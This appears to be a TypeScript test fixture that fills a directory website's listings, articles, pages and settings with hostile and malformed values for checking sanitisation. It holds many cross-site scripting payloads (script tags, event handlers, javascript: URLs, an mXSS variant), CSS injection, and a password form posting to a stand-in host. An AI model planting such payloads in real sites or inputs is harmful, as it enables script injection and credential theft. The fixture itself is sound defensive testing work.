/** A site from which no page may request anything. */
export const elsewhere = 'elsewhere.example';

/** Returns a script that records that it ran. */
const scriptFor = (where: string) => `window.ranByItself=(window.ranByItself||'')+' ${where}'`;

/** Returns HTML that tries to run code, cover the page, load files, and redirect to another site. */
export function unsafeHtml(where: string): string {
  const code = scriptFor(where);
  return `
    <p>Honest words above.</p>
    <script>${code}</script>
    <img src="/none.png" onerror="${code}" onload="${code}">
    <svg onload="${code}"><script>${code}</script><animate onbegin="${code}" attributeName="x" dur="1s" /></svg>
    <p><a href="javascript:${code}">a link that runs</a>
       <a href="java&#10;script:${code}">another</a>
       <a href="data:text/html,<script>${code}</script>">a third</a></p>
    <iframe src="https://${elsewhere}/frame"></iframe>
    <iframe srcdoc="<script>parent.ranByItself='srcdoc'</script>"></iframe>
    <iframe src="javascript:parent.ranByItself='frame'"></iframe>
    <form action="https://${elsewhere}/collect"><input name="password"><button>Sign in here</button></form>
    <style>body{display:none!important}@import url(https://${elsewhere}/style.css)</style>
    <link rel="stylesheet" href="https://${elsewhere}/style.css">
    <meta http-equiv="refresh" content="0;url=https://${elsewhere}/"><base href="https://${elsewhere}/">
    <object data="https://${elsewhere}/object"></object><embed src="https://${elsewhere}/embed">
    <video autoplay onloadstart="${code}" src="/none.mp4"></video>
    <details open ontoggle="${code}"><summary>Details</summary></details>
    <input autofocus onfocus="${code}">
    <div style="position:fixed;inset:0;z-index:99;background:red url(https://${elsewhere}/x.png)" onclick="${code}" class="fixed inset-0">Over everything</div>
    <h1>One more first heading</h1>
    <p>${'W'.repeat(400)}</p>
    <table><tr><td>${'W'.repeat(200)}</td><td>wide</td></tr></table>
    <pre>${'W'.repeat(300)}</pre>
    <img src="/none-wide.png" width="4000" height="20">
    <p>Honest words below.</p>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`;
}

/** Returns a text that would run if it were inserted as HTML. */
export function unsafeText(where: string): string {
  return `"><script>${scriptFor(where)}</script><img src=x onerror="${scriptFor(where)}">`;
}

const reversed = '\u202emoc.elpmaxe\u202c';
const longWord = (length: number) => 'Llanfairpwll'.repeat(30).slice(0, length);

export const names = {
  unsafe: `Odd ${unsafeText('name')}`,
  long: longWord(300),
  emoji: `🍕🥙${'🍜'.repeat(40)}👩🏽‍🍳`,
  rightToLeft: `مطعم الشرق ${reversed} بيت الكباب`,
  bare: 'Nothing Known Of It',
  pictures: 'Pictures That Never Come',
  route: 'Filed Under a Route',
  longCategory: longWord(100).toLowerCase(),
} as const;

/** The ids of the listings; `names` has their names. */
export const ids = {
  unsafe: 'odd-hostile',
  long: 'odd-long',
  emoji: 'odd-emoji',
  rightToLeft: 'odd-right-to-left',
  bare: 'odd bare/../?#%',
  pictures: 'odd-pictures',
  route: 'odd-route',
} as const;

const usualFields = { area: 'Bury', category: 'Cafes', categories: ['Cafes'] };

const listings = [
  {
    id: ids.unsafe,
    name: names.unsafe,
    description: unsafeText('description'),
    address: unsafeText('address'),
    category: 'Cafes',
    categories: ['Cafes', unsafeText('c')],
    area: 'Bury',
    phone: `javascript:${scriptFor('phone')}`,
    website: `javascript:${scriptFor('website')}`,
    email: `a@b.example"onmouseover="${scriptFor('email')}`,
    lat: 53.5933,
    lng: -2.2966,
    imageUrl: `javascript:${scriptFor('image')}`,
    htmlContent: unsafeHtml('listing'),
    rating: 4.2,
    reviews: 3,
    hygieneRating: '<b onclick=run()>Very</b>',
    hygieneRatingDate: '2026-99-99',
    hygieneAuthority: unsafeText('authority'),
    source: 'file',
    sourceUpdatedAt: 'last Tuesday',
    reviewsData: [
      {
        author_name: unsafeText('author'),
        rating: 5,
        text: unsafeText('review'),
        time: 1e300,
        relative_time_description: unsafeText('when'),
        profile_photo_url: `javascript:${scriptFor('photo')}`,
        response: unsafeText('response'),
      },
      { rating: null, text: 'Nobody signed this.', time: -5, author_name: '' },
    ],
  },
  {
    ...usualFields,
    id: ids.long,
    name: names.long,
    description: `${longWord(300)} ${'long '.repeat(800)}`,
    address: longWord(300),
    category: longWord(100),
    categories: [
      longWord(100),
      ...Array.from({ length: 12 }, (_, index) => `Kind ${String(index)}`),
    ],
    area: longWord(90),
    phone: '0'.repeat(100),
    website: `https://${longWord(60)}.example/${longWord(300)}`,
    email: `${longWord(60)}@${longWord(60)}.example`,
    lat: 89.9,
    lng: 179.9,
    rating: 0.1,
    reviews: 999_999_999,
    hygieneRating: longWord(100),
    reviewsData: [
      {
        author_name: longWord(300),
        rating: 1,
        text: longWord(300),
        time: null,
        response: longWord(300),
      },
    ],
  },
  {
    ...usualFields,
    id: ids.emoji,
    name: names.emoji,
    description: '👍'.repeat(300),
    address: '🏠 1 🛣️, 🐝',
    categories: ['Cafes', '🍕🍕'],
    reviewsData: [{ author_name: '🧑‍🍳', rating: 4, text: '😋'.repeat(200), time: 1_790_000_000 }],
  },
  {
    ...usualFields,
    id: ids.rightToLeft,
    name: names.rightToLeft,
    description: 'أطباق شامية في قلب المدينة. '.repeat(12),
    address: 'شارع السوق 12، Bury',
    categories: ['Cafes', 'مطاعم'],
    htmlContent: '<p dir="rtl">مفتوح كل يوم</p>',
  },
  { id: ids.bare, name: names.bare },
  {
    ...usualFields,
    id: ids.pictures,
    name: names.pictures,
    address: '1 Broken Frame',
    imageUrl: '/no-such-picture.jpg',
    htmlContent: '<p>See <img src="/no-such-dish.jpg" alt="the dish of the day"></p>',
    reviewsData: [
      {
        author_name: 'Ann',
        rating: 3,
        text: 'Fine.',
        time: 0,
        profile_photo_url: '/no-such-face.png',
      },
    ],
  },
  {
    ...usualFields,
    id: ids.route,
    name: names.route,
    category: 'Auth',
    categories: ['Auth', 'Articles'],
  },
];

const topicTexts = (where: string) => ({
  description: unsafeText(where),
  metaTitle: unsafeText(where),
  metaDescription: unsafeText(where),
  headerContent: unsafeHtml(`${where} above`),
  footerContent: unsafeHtml(`${where} below`),
});

const article = {
  id: 'odd-article',
  slug: 'odd-article',
  title: `Article ${unsafeText('title')}`,
  excerpt: unsafeText('excerpt'),
  content: unsafeHtml('article'),
  date: '31 February, or never',
  author: unsafeText('writer'),
  image: '/no-such-picture.jpg',
  published: true,
  tags: [unsafeText('tag'), longWord(60), '🍕', 'مطاعم'],
};

/** A directory with unsafe, very long, empty and unusual values, in the public format. */
export const badContent = {
  directoryListings: listings,
  directoryCategories: [
    { id: 'cafes', name: 'Cafes', ...topicTexts('category') },
    { id: 'auth', name: 'Auth' },
    { id: 'articles', name: 'Articles' },
    { id: 'pizza-emoji', name: '🍕🍕' },
    { id: 'مطاعم', name: 'مطاعم' },
    { id: 'long', name: longWord(100) },
  ],
  directoryAreaCategories: [{ id: 'area-bury', name: 'Bury', ...topicTexts('area') }],
  siteArticles: [
    article,
    {
      ...article,
      id: 'odd-bare-article',
      slug: '',
      title: longWord(300),
      tags: [],
      author: '',
      date: '',
      image: '',
    },
  ],
  sitePageContent: {
    'odd-page': {
      slug: 'odd-page',
      title: `Page ${unsafeText('page title')}`,
      subtitle: unsafeText('subtitle'),
      content: unsafeHtml('page'),
      headerHtml: unsafeHtml('page above'),
      footerHtml: unsafeHtml('page below'),
      showInHeader: true,
      showInFooter: true,
      seo: { metaTitle: unsafeText('meta'), metaDescription: unsafeText('meta') },
    },
  },
  siteSettings: {
    headerLogo: `javascript:${scriptFor('logo')}`,
    headerLogoWidth: '99999px',
    headerLogoHeight: 'tall',
    headerBackgroundColor: `url(https://${elsewhere}/header.png)`,
    footerLogo: '/no-such-logo.png',
    footerLogoWidth: '-1px',
    footerBackgroundColor: 'red;position:fixed',
    heroImage: `"), url(https://${elsewhere}/hero.png`,
    primaryColor: `red;background:url(https://${elsewhere}/colour.png)`,
  },
};
